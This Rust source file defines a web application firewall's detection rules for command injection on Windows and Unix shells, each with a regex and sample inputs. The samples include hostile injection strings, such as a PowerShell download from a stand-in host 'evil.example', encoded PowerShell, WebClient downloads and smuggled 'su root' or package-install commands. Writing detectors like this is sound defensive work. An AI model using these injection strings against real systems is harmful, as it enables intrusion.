//! Commands of Windows, and of languages that run them.

use crate::waf::detect::macros::patterns;
use crate::waf::view::Places;

patterns! {
    class Rce, tags &["windows"], places Places::VALUES;
    FOR: "rce-cmd-for", STRONG, "a loop of cmd",
        literals [" in(", " in (", " in  (", " in   (", "\tin"], r"\bfor\b\s*(?:/[dflr]\b[^%\r\n]*)?\s*%{1,2}\S{0,16}\s+in\s*\([^\r\n]*?\)\s*do\b",
        ["for /f %i in ('whoami') do echo %i", "FOR %a IN (set) DO x"], ["for 5% in (cash) do call"];
    IF: "rce-cmd-if", STRONG, "a condition of cmd",
        literals [" exist ", " exist\t", " errorlevel ", " cmdextversion ", " defined "], r"(?:^|[^\w-])if\b\s*(?:/i\s*)?(?:not\s+)?(?:(?:exist|errorlevel|cmdextversion)\s+\S+\s*\S|defined\s+\w+\s+[(\w@])",
        ["if exist C:\\pagefile.sys cmd", "IF NOT EXIST x (CMD)"], ["what if existing users leave", "if it is defined, go"];
    COMPARE: "rce-cmd-compare", STRONG, "a comparison of cmd",
        literals ["==", " equ ", " neq ", " lss ", " leq ", " gtr ", " geq "],
        r#"(?:^|[^\w-])if\b\s*(?:/i\s*)?(?:not\s*)?(?:/i\s*)?(?:(?:"[^"\r\n]*"|%[^\s"]+|\(\w+\)|[(\[]%[\w~]+%?[)\]])\s*==\s*(?:"[^"\r\n]*"|[^\s:;{}]+)\s*[\w@("]|\w+==\w+\s+[\w@]|\(?\s*(?:"?[%\w][^\s=]*)\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S+\s*\S)"#,
        ["if \"%VAR%\" == \"before\" (", "IF red==red echo test", "IF (2 GEQ 15) echo x"], ["if (x == 1) {", "if a == b: pass"];
    POWERSHELL: "rce-powershell", STRONG, "PowerShell",
        literals ["powershell", "pwsh", "invoke-", "start-process", "start-job", "start-bits", "start-service", "new-object", "new-item", "new-psdrive", "new-service", "new-localuser", "get-wmi", "get-cim", "get-child", "get-cred", "get-process", "get-service", "get-content", "get-item", "get-local", "get-aduser", "set-exec", "set-content", "set-item", "set-mppref", "set-acl", "add-type", "add-mppref", "add-content", "add-localgroup", "import-module", "out-file", "out-string", "out-null", "convertto-sec", "register-sched", "stop-process", "stop-service", "remove-item", "copy-item", "write-output", "write-host", "foreach-object"],
        r"\b(?:(?:powershell|pwsh)(?:\.exe)?[\s/]+(?:-\w|/\w|[a-z]:\\|[&$(\x22']|\w+-\w)|(?:invoke-(?:webrequest|restmethod|expression|command|item|wmimethod|cimmethod|shellcode|mimikatz|obfuscation)|start-(?:process|job|bitstransfer|service)|new-(?:object|itemproperty|psdrive|service|localuser)|get-(?:wmiobject|ciminstance|childitem|credential|process|service|content|item|localuser|aduser|itemproperty)|set-(?:executionpolicy|content|itemproperty|mppreference|acl)|add-(?:type|mppreference|content|localgroupmember)|import-module|out-(?:file|string|null)|convertto-securestring|register-scheduledtask|stop-(?:process|service)|remove-item(?:property)?|copy-item|write-(?:output|host)|foreach-object)(?:\s|$|;|\|))",
        ["Invoke-WebRequest http://evil.example/x.ps1", "powershell -enc AAAA", "powershell C:\\x.exe"],
        ["the powershell book", "a get-together"];
    CMD: "rce-cmd", STRONG, "cmd is run",
        literals ["cmd.exe", "cmd /", "cmd/", "cmd  /", "comspec", "command.com", ":~"], r"(?:\b(?:cmd(?:\.exe)?\s*/[a-z]\b\s*\S|command\.com\b)|%comspec%|%\w{2,24}:~-?\d)", ["cmd.exe /c dir", "%COMSPEC% /c dir", "%PATHEXT:~0,1%"], ["cmd key", "100%: ~5%"];
    POWERSHELL_NET: "rce-powershell-net", STRONG, "classes of .NET in PowerShell",
        literals ["net.webclient", ".download", "frombase64string", "]::", "process.start", "system.diagnostics.", "system.io.file", "invokecommand", "&('", "& ('", "&(\"", "& (\"", "&(gcm", "& (gcm", "&(gal", "&(get-", "& (get-"],
        r"(?:\b(?:diagnostics\.)?process\.start\s*\(|\bsystem\.(?:diagnostics\.process|io\.file\.\w)|\$executioncontext\.invokecommand|&\s*\(\s*(?:['\x22][\w-]*['\x22]\s*\+|(?:gcm|gal|get-(?:command|alias))\s)|net\.webclient|\.download(?:string|file|data)\s*\(|frombase64string\s*\(|\[(?:system\.)?(?:convert|text\.encoding|io\.file|reflection\.assembly|diagnostics\.process)\]::)",
        ["(New-Object Net.WebClient).DownloadString('x')", "Process.Start(\"cmd.exe\")", "&('i'+'ex') 'x'"], ["download file", "the process. Start (now)", "R&('D')"];
    SWITCH: "rce-windows-switch", STRONG, "a program of Windows with a switch",
        literals ["bcdboot", "bcdedit", "regedit", "certutil", "bitsadmin", "schtasks", "wmic", "icacls", "cacls", "rundll32", "regsvr32", "mshta", "cscript", "wscript", "forfiles", "vssadmin", "tasklist", "taskkill", "ipconfig", "systeminfo", "attrib", "xcopy", "robocopy", "takeown", "diskpart", "fsutil", "nltest", "whoami", "netsh", "msiexec", "findstr", "reg /", "timeout /", "net /", "net1 /", "sc /", "at /", "expand /"],
        r"(?:^|[;&|\s(])(?:bcdboot|bcdedit|regedit|reg|certutil|bitsadmin|schtasks|wmic|net|sc|at|icacls|cacls|rundll32|regsvr32|mshta|cscript|wscript|forfiles|vssadmin|tasklist|taskkill|ipconfig|systeminfo|net1|attrib|xcopy|robocopy|takeown|diskpart|fsutil|nltest|whoami|netsh|msiexec|expand|findstr|timeout)(?:\.exe)?\s*/[a-z?]{1,12}\b(?:[^/]|$)",
        ["bcdboot/r file.txt", "; regedit /E c:\\x.reg HKEY"], ["at/near the station"];
    NET: "rce-net", STRONG, "accounts and shares of Windows",
        literals ["net user", "net localgroup", "net view", "net use", "net share", "net group", "net accounts", "net1 user"],
        r"(?:^|[;&|`(]\s*)net1?\s+(?:user|localgroup|view|use|share|group|accounts)\b", ["| net user"], ["internet users", "a net view"];
    AT: "rce-at", STRONG, "a command for later",
        literals ["at 0", "at 1", "at 2", "at 3", "at 4", "at 5", "at 6", "at 7", "at 8", "at 9"], r#"(?:^|[;&|]\s*)at\s+\d{1,2}:\d{2}\s*(?:/\w+\s*)?["'\\a-z]:?[^\s,.]"#, [";at 2:00 \"echo test\""], ["meet at 2:00 pm", "see you at 10:30; bring the dog"];
    ALIAS: "rce-alias", STRONG, "an alias of a shell",
        literals ["alias"], r#"\balias\s+(?:[-+]\w+\+?\s+)*['"]?[\w.]+['"]?=\s*\S"#, ["alias ls='rm'", "alias -p x=id"], ["your alias is not = to your name"];
    PERL: "rce-perl-block", STRONG, "code in a string of Perl",
        literals ["@{"], r"@\{\s*\[", ["@{[system 'id']}"], ["@{name}"];
    RUBY: "rce-ruby", STRONG, "a program run by Ruby",
        literals ["process.", "io.popen", "kernel.", "open3", "%x", "process::"],
        r"\b(?:process(?:\.|::)(?:spawn|exec|fork|clock)\b|io\.popen\b|kernel(?:\.|::)(?:exec|system|open|fork|eval|spawn)\b|open3\.(?:popen|capture))|%x[({\[|!]",
        ["Process.spawn(\"id\")", "%x(id)"], ["the process. Spawn points"];
    PYTHON: "rce-python", STRONG, "code of Python that runs a program or code",
        literals ["os.system", "os.popen", "os.exec", "os.spawn", "subprocess.", "__import__", "importlib.", "pty.spawn", "eval(", "exec(", "eval (", "exec ("],
        r#"\b(?:os\.(?:system|popen|exec[lv]\w*|spawn\w+)\s*\(|subprocess\.(?:popen|call|run|check_\w+|getoutput)\b|__import__\s*\(|importlib\.import_module|pty\.spawn|(?:eval|exec)\s*\(\s*compile\s*\()"#,
        ["__import__('os').popen('id')", "eval(compile('x','a','single'))"], ["subprocess of the economy"];
    INSTALL: "rce-install", STRONG, "a package is installed",
        literals ["pip ", "pip2 ", "pip3 ", "npm ", "gem ", "apt ", "apt-get ", "yum ", "dnf ", "apk ", "brew ", "cpan", "cargo ", "yarn ", "pnpm ", "composer ", "pacman ", "snap ", "choco ", "easy_install", "opkg ", "zypper "],
        r"(?:^|[;&|`(]\s*)(?:sudo\s+)?(?:pip\d?|npm|gem|apt(?:-get)?|yum|dnf|apk|brew|cpanm?|cargo|yarn|pnpm|composer|pacman|snap|port|choco|easy_install|opkg|zypper)\s+(?:-\S+\s+)*(?:install|add|update|upgrade|remove)\s+\S",
        ["pip3 install something", "; apt-get -y install nc"], ["port install (new)", "how to npm install x"];
    SQLITE: "rce-sqlite-command", STRONG, "a command of the shell of SQLite",
        literals [".shell", ". shell", ". system", ".sh ", ".system", ".load ", ".read ", ".output ", ".import ", ".open ", ".backup ", ".restore ", ".save ", ".dump "], r"[;'\x22]\s*(?:\\n)?\s*\.\s*(?:shell|sh|system|load|read|output|import|open|backup|restore|save|dump)\s+\S", [";\n.shell nc", "'; .system id"], ["x; .open"];
    VARIABLES: "rce-variable-command", STRONG, "a command put together from variables",
        literals ["$"], r"(?:[;|&]|&&)\s*\$\{?[a-z_]\w*\}?\$\{?[a-z_]\w*\}?(?:$|[\s;|&<>$])", [";a=i;b=d;$a$b"], ["a; $5 and $6", "x;$a"];
    ASSIGNED: "rce-export", STRONG, "a variable is set for commands to come",
        literals ["export ", "declare ", "readonly ", "typeset "], r"(?:^|[;|&`]\s*)(?:export|readonly|declare|typeset)\s+(?:-\w+\s+)?[a-z_]\w*=\S", [";export X=1"], ["export = 5", "export to x=1"];
    ARGUMENT: "rce-argument", STRONG, "an option that runs a program",
        literals [" -wrapper", "--exec", " -exec", "--use-askpass", "proxycommand", "--upload-pack", "--receive-pack", " -ex "],
        r"(?:\s-wrapper\s+\S+,|--exec(?:ute)?[= ]\S|\s-exec\s+\S+|--use-askpass=|proxycommand\s*=|--(?:upload|receive)-pack=|\s-ex\s+\\?!)",
        ["x --exec=`id`", "c99 -wrapper sh,-c,id ."], ["the co-executive"];
    CONTROL: "rce-shell-control", STRONG, "a loop or a condition of a shell",
        literals ["; then", ";then", "; do ", ";do ", ";do\n", "esac", "\ndo ", "\nthen"],
        r"(?:\bif\s+[^\r\n;]{1,80}[;\n]\s*then\s[^\r\n]{0,200}[;\n]\s*fi\b|\bif\s+\[{1,2}\s[^\r\n;]{1,80}[;\n]\s*then\b|\b(?:while|until|for)\s[^\r\n;]{1,80}[;\n]\s*do\s+\S[^;\n]*[;\n]\s*done\b|\bcase\s+\S{1,40}\s+in\s.{1,80};;\s*esac\b)",
        [";if [ 1 ];then id;fi", ";while true;do id;done", "for i in 1 2; do id; done", ";case a in a) id;;esac"],
        ["if you like it; then buy it", "while you wait; do it", "in case it rains in May"];
    PERL_RUN: "rce-perl-run", STRONG, "a program run by Perl",
        literals ["qx/", "qx{", "qx(", "qx|", "qx!", "qx'"], r"(?:^|[\s;=(,])qx[/{(|!'][^\r\n]{1,80}[/})|!']", ["qx/id/", "x;qx{ls -la}"], ["qx/", "fqx(1)"];
    SUBCOMMAND: "rce-subcommand", STRONG, "a further command with one of its own orders",
        literals ["docker ", "kubectl ", "git ", "svn ", "systemctl ", "service ", "make ", "su ", "net st", "sc ", "ip a", "ip r", "ip link", "reg ", "powershell", "pwsh", ";cp ", "|cp ", ";dig ", "|dig ", ";eval ", ";ftp ", "|ftp ", ";nano ", ";nl ", "|nl ", ";rev ", "|rev", ";stat ", ";tee ", "|tee ", ";tr ", "|tr ", ";vi", "|vi ", ";w"],
        r"(?:^\s*[\w.-]{0,32}\s?[;&|]{1,2}\s*|[;&|])(?:docker\s+(?:ps|run|exec|images|pull|build|inspect|logs|info|version)|kubectl\s+(?:get|exec|apply|describe|logs|delete|run)|git\s+(?:clone|pull|push|log|config|status|init|fetch)|svn\s+(?:co|checkout|export|info)|systemctl\s+\w+|service\s+[\w.-]+\s+(?:start|stop|restart|status|reload)|make\s+(?:install|all|clean|-\w)|su\s+(?:-|root)|net\s+(?:start|stop|session|time)|sc\s+(?:query|create|start|stop|config|delete|qc)|ip\s+(?:a|addr|address|r|route|link|neigh)|reg\s+(?:query|add|delete|export|save)|(?:powershell|pwsh)(?:\.exe)?\s+[\w-]+)\s*(?:$|[;&|`)\s])|^\s*[\w.-]{0,32}[;|]{1,2}(?:cp|dig|eval|ftp|nano|nl|rev|stat|tee|tr|vi|vim|w)(?:\s+[\w./~*-]+){0,2}\s*(?:$|[;&|])",
        ["x;docker ps", "7|git log", "&net start", "x;su root", "127.0.0.1 && git status"], ["we sell; make installs easy", "tea; service is good", "x; git is great", "go (ip rating 67)"];
    ECHOED: "rce-echo-file", STRONG, "a text is written into a file by a shell",
        literals ["echo ", "printf "], r"[;&|`]\s*(?:echo|printf)\s+[^\r\n;&|<>]{0,80}>{1,2}\s*[\w./\\:~-]{1,64}", ["x;echo x>/tmp/x", "&echo x>x.asp"], ["echo \"hello\" > file.txt", "my echo > your sound", "the echo > sound"];
}
